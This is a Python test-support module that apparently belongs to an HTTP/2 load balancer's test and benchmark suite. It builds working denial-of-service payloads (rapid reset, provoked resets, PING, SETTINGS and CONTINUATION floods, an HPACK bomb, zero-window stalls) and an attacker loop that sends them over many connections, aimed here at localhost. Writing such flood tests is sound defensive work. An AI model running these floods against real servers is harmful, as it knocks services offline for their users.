"""What an HTTP/2 client can send too much of, as bytes made beforehand, and an attacker that sends them as fast as it can.

The bytes need no answer: an attacker that waits for nothing is the strongest. Used by the black-box tests and by bench/floods.
"""

import argparse
import contextlib
import itertools
import json
import selectors
import signal
import socket
import sys
import time
from dataclasses import dataclass

from support.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS,
    frame,
    rst_stream,
    settings,
    window_update,
)

PRIORITY_UPDATE = 16  # RFC 9218 section 7.1
HELLO = PREFACE + settings()
# Literals without indexing, so that a block can be sent again: GET or POST, http, /, :authority a.test.
GET_BLOCK = b"\x82\x86\x84\x01\x06a.test"
POST_BLOCK = b"\x83\x86\x84\x01\x06a.test"
WHOLE = END_STREAM | END_HEADERS
MOST_WINDOW = 2**31 - 1
CHUNK = 200_000  # bytes, about, that are repeated


@dataclass(frozen=True)
class Flood:
    name: str
    kinds: tuple  # of azulb_client_floods_total, that may count it; empty: the connection goes on
    opening: bytes  # once
    again: bytes = b""  # as often as the other side takes it


FLOODS = {}


def flood(name, kinds, opening, again=b""):
    FLOODS[name] = Flood(name, tuple(kinds.split()), HELLO + opening, again)


def streams(*frames_of, count=8000):
    """For each of so many streams the frames that the functions make of its number."""
    return b"".join(make(number) for number in range(1, 2 * count, 2) for make in frames_of)


def many(data):
    return data * max(1, CHUNK // len(data))


def get(number, block=GET_BLOCK, flags=WHOLE):
    return frame(HEADERS, flags, number, block)


def post(number):
    return get(number, POST_BLOCK, END_HEADERS)


def malformed(number, flags=WHOLE):
    return get(number, GET_BLOCK + b"\x00\x03Bad\x011", flags)


# ---- requests taken back (CVE-2023-44487), and resets that azulb is provoked to (CVE-2025-8671)
flood("rapid reset", "reset", streams(get, rst_stream))
flood("provoked: window of 0", "connection_error", streams(post, lambda number: window_update(number, 0)))
flood("provoked: window too large", "bad_frame", streams(post, lambda number: window_update(number, MOST_WINDOW)))
flood("provoked: DATA after the end", "connection_error", streams(get, lambda number: frame(DATA, END_STREAM, number, b"x")))
flood("provoked: PRIORITY of a wrong size", "connection_error",
      streams(get, lambda number: frame(PRIORITY, 0, number, bytes(4))))
flood("provoked: malformed requests", "bad_frame", streams(malformed))
# Once the four are held, they come too seldom for the count of all; the empty frames that follow the error are minded then.
flood("connection errors", "connection_error empty_frame", b"", frame(DATA, 0, 1))
flood("more streams than allowed", "bad_frame", streams(post))
flood("HEADERS on a stream that was reset", "late_frame", malformed(1, END_HEADERS), many(get(1)))
flood("DATA on a stream that was reset", "late_frame", malformed(1, END_HEADERS),
      many(frame(DATA, 0, 1, b"x")))

# ---- frames of the connection
flood("PING", "ping", b"", many(frame(PING, 0, 0, b"12345678")))
flood("PING acknowledgements", "ping", b"", many(frame(PING, ACK, 0, b"12345678")))
flood("SETTINGS", "settings", b"", many(frame(SETTINGS)))
flood("SETTINGS that move windows", "settings", b"",
      b"".join(settings({INITIAL_WINDOW_SIZE: 65535 + at}) for at in range(CHUNK // 15)))
flood("GOAWAY", "goaway", post(1), many(frame(GOAWAY, 0, 0, bytes(8))))
flood("PRIORITY", "priority", b"", many(frame(PRIORITY, 0, 1, b"\0\0\0\0\x0f")))
flood("PRIORITY_UPDATE", "priority", b"", many(frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1")))
flood("frames of an unknown type", "priority", b"", many(frame(0xF7, 0, 0, b"grease")))
flood("WINDOW_UPDATE of the connection", "window_update", b"", many(window_update(0, 1)))
flood("WINDOW_UPDATE of a stream", "window_update", post(1), many(window_update(1, 1)))

# ---- frames that carry little or nothing
flood("empty DATA", "empty_frame", post(1), many(frame(DATA, 0, 1)))
flood("DATA of padding", "empty_frame", post(1), many(frame(DATA, PADDED, 1, b"\x03\0\0\0")))
flood("DATA of one byte", "tiny_data", post(1), many(frame(DATA, 0, 1, b"x")))

# ---- header blocks
flood("empty CONTINUATION", "continuation", frame(HEADERS, END_STREAM, 1, GET_BLOCK), many(frame(CONTINUATION, 0, 1)))
flood("long CONTINUATION", "continuation header_block", frame(HEADERS, END_STREAM, 1, GET_BLOCK),
      many(frame(CONTINUATION, 0, 1, (b"\x00\x01x\x7f\xbd\x01" + b"v" * 316) * 50)))
# A large field once, then one byte for each time that it comes again.
flood("HPACK bomb", "header_block",
      get(1, GET_BLOCK + b"\x40\x06x-bomb\x7f\xa1\x1e" + b"b" * 4000)
      + b"".join(get(number, b"\xbe" * 16000) for number in range(3, 40, 2)))

# ---- windows that stay shut: memory for what the servers have sent, until timeout.send
flood("windows of 0", "", settings({INITIAL_WINDOW_SIZE: 0}) + streams(get, count=100))
flood("windows opened byte by byte", "window_update", settings({INITIAL_WINDOW_SIZE: 0}) + streams(get, count=100),
      many(streams(lambda number: window_update(number, 1), count=100)))


class Attacker:
    """Connections that send one flood over and over; what comes back is read and dropped. One that is ended begins anew."""

    def __init__(self, address, flood, connections=4, hit_and_run=False, wrap=None):
        self.address, self.flood, self.wrap = address, flood, wrap
        self.hit_and_run = hit_and_run  # it is gone as soon as it has sent a piece
        self.connections, self.opened, self.sent_bytes = connections, 0, 0
        self.selector = selectors.DefaultSelector()

    def open(self):
        sock = socket.create_connection(self.address, timeout=5)
        if self.wrap:
            sock = self.wrap(sock)
        sock.setblocking(False)
        self.opened += 1
        begin = self.flood.opening + (self.flood.again if self.hit_and_run else b"")
        pieces = itertools.chain([begin], itertools.repeat(self.flood.again))
        self.selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, [pieces, memoryview(next(pieces))])

    def close(self, sock):
        self.selector.unregister(sock)
        sock.close()

    def turn(self, timeout=0.1):
        """Whatever can be sent and read now."""
        for _ in range(self.connections - len(self.selector.get_map())):
            self.open()
        for key, events in self.selector.select(timeout):
            try:
                if events & selectors.EVENT_READ and not key.fileobj.recv(1 << 16):
                    raise ConnectionError
                if events & selectors.EVENT_WRITE:
                    self.send(key)
            except BlockingIOError:
                pass
            except OSError:
                self.close(key.fileobj)

    def send(self, key):
        pieces, left = key.data
        if left:
            sent = key.fileobj.send(left)
            self.sent_bytes += sent
            key.data[1] = left[sent:]
        if key.data[1]:
            return
        if self.hit_and_run:
            raise ConnectionError
        key.data[1] = memoryview(next(pieces))
        if not key.data[1]:  # nothing more to say: it waits to be thrown out
            self.selector.modify(key.fileobj, selectors.EVENT_READ, key.data)

    def stop(self):
        for key in list(self.selector.get_map().values()):
            self.close(key.fileobj)


def main():
    """Attacks until SIGTERM; then tells in JSON what it did."""
    parser = argparse.ArgumentParser(description=main.__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("flood", choices=FLOODS)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--hit-and-run", action="store_true")
    options = parser.parse_args()
    attacker = Attacker(("127.0.0.1", options.port), FLOODS[options.flood], options.connections, options.hit_and_run)
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    print("ready", flush=True)
    while not ended:
        try:
            attacker.turn()
        except OSError:
            time.sleep(0.01)
    attacker.stop()
    with contextlib.suppress(BrokenPipeError):
        print(json.dumps({"connections": attacker.opened, "sent_bytes": attacker.sent_bytes}))


if __name__ == "__main__":
    sys.exit(main())
